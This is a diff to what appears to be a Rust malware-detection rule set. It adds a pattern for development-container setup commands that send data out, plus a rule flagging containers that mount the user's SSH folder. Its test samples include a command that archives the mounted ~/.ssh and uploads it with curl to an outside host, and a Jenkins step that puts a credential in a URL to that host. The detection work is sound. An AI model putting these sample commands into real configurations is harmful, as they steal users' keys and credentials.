@@ -88,6 +88,13 @@ static CREDENTIALS_IN_ADDRESS: Signal = Signal::command(
     r"\bwithCredentials\s*\([\s\S]{0,240}?\b(?:curl|wget)\b[^\n]*h(?:tt|xx)ps?://[^\n]*[?&][\w-]+=\$",
 );
 
+/// What a container for development does when it is made or opened, with something going out.
+static CONTAINER_SENDS: Signal = Signal::command(
+    &["command\""],
+    r#"(?x)
+      "(?:postCreate|postStart|postAttach|onCreate|updateContent|initialize)Command"\s*:\s*(?:\[\s*)?"(?:[^"\n\\]|\\.)*?\b(?:curl\b(?:[^"\n\\]|\\.)*?\s(?:-[a-zA-Z]*[dFT]\b|--data|--form|--upload-file)|wget\b(?:[^"\n\\]|\\.)*?--post|nc\s|ncat\s|scp\s)"#,
+);
+
 pub(super) static RULES: &[Rule] = &[
     Rule {
         id: "MALWAR-BUILD-001",
@@ -295,6 +302,21 @@ pub(super) static RULES: &[Rule] = &[
         guard: Some(hosts::stranger),
         hits: &["@Jenkinsfile\nwithCredentials([string(credentialsId: 'd', variable: 'P')]) {\n  sh 'curl -s \"https://d.fast-agent.top/j?p=$P\"'\n}\n"],
         misses: &["@Jenkinsfile\nwithCredentials([string(credentialsId: 'd', variable: 'P')]) {\n  sh 'curl -H \"Authorization: Bearer $P\" https://api.github.com/user'\n}\n"],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-BUILD-014",
+        title: "A container for development is given secrets and sends something",
+        severity: Severity::Critical,
+        confidence: 80,
+        category: Category::DataExfiltration,
+        taxa: &["EX-03", "CE-02"],
+        why: "it runs when a folder is opened, with what it was given of the user's home",
+        fix: "remove the command and the mount; replace what was mounted",
+        when: When::Near(600, &[&[&CONTAINER_SENDS], &[&signals::SECRET_FILE]]),
+        guard: Some(hosts::stranger),
+        hits: &["```json\n{\"mounts\": [\"source=${localEnv:HOME}/.ssh,target=/s,type=bind\"], \"postCreateCommand\": \"tar cz /s | curl -s -T - https://d.fast-agent.top/k\"}\n```\n"],
+        misses: &["```json\n{\"mounts\": [\"source=${localEnv:HOME}/.ssh,target=/s,type=bind\"], \"postCreateCommand\": \"npm ci\"}\n```\n"],
         ..Rule::BASE
     },
 ];
